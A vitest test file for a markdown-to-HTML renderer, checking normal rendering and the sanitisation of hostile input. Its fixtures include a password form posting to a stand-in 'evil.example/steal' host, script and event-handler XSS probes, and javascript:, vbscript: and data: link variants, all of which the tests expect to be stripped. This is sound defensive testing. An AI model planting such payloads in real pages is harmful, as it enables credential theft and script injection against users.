import { describe, expect, it } from 'vitest';
import { renderMarkdown } from './markdown.ts';

/** The rendered HTML parsed back, so assertions look at elements and attributes, not at text. */
function dom(code: string): HTMLElement {
  const div = document.createElement('div');
  div.innerHTML = renderMarkdown(code);
  return div;
}

describe('renderMarkdown', () => {
  it('renders headings, emphasis, links, images, lists, tables and code', () => {
    expect(renderMarkdown('# Sales\n\n**bold** and *it*')).toBe(
      '<h1>Sales</h1>\n<p><strong>bold</strong> and <em>it</em></p>\n',
    );
    const html = dom(
      '[docs](https://example.com/a "Docs")\n\n![chart](/static/a.png)\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n`x < y`',
    );
    expect(html.querySelector('a')!.outerHTML).toBe(
      '<a href="https://example.com/a" title="Docs">docs</a>',
    );
    expect(html.querySelector('img')!.outerHTML).toBe('<img src="/static/a.png" alt="chart">');
    expect([...html.querySelectorAll('li')].map((li) => li.textContent)).toEqual(['one', 'two']);
    expect([...html.querySelectorAll('td')].map((td) => td.textContent)).toEqual(['1', '2']);
    expect(html.querySelector('code')!.textContent).toBe('x < y');
  });

  it('strips forms, inputs and buttons, keeping their text', () => {
    const html = dom(
      '<form action="https://evil.example/steal" method="post">Password: <input type="password" name="p"><button formaction="https://evil.example">Log in</button><select><option>a</option></select><textarea>t</textarea></form>',
    );
    for (const tag of ['form', 'input', 'button', 'select', 'option', 'textarea'])
      expect(html.querySelector(tag), tag).toBeNull();
    expect(html.innerHTML).not.toMatch(/evil\.example|formaction|action=/);
    expect(html.textContent).toContain('Password: ');
    expect(html.textContent).toContain('Log in');
  });

  it('strips scripts, frames, styles and event handlers', () => {
    const html = dom(
      '<img src="x" onerror="alert(1)"><script>alert(2)</script><iframe src="https://evil.example"></iframe><object data="x"></object>' +
        '<embed src="x"><style>body{display:none}</style><svg onload="alert(3)"></svg><p style="position:fixed;inset:0" class="ant-modal" id="root" onclick="alert(4)">hi</p>',
    );
    // marked wraps the inline HTML in paragraphs; only the image's src and the text survive.
    expect(html.innerHTML).toBe('<p><img src="x"></p><p>hi</p><p></p>\n');
  });

  it('drops javascript:, vbscript: and data: links but keeps http, mailto and relative ones', () => {
    const hrefs = (code: string) =>
      [...dom(code).querySelectorAll('a')].map((a) => a.getAttribute('href'));
    expect(
      hrefs(
        '[a](javascript:alert(1)) <a href="JaVaScRiPt:alert(1)">b</a> <a href=" javascript:alert(1)">c</a> <a href="vbscript:x">d</a> <a href="data:text/html,<script>alert(1)</script>">e</a>',
      ),
    ).toEqual([null, null, null, null, null]);
    expect(
      hrefs('[a](https://x.example) [b](mailto:a@x.example) [c](/dashboard/1/) [d](#top)'),
    ).toEqual(['https://x.example', 'mailto:a@x.example', '/dashboard/1/', '#top']);
  });
});
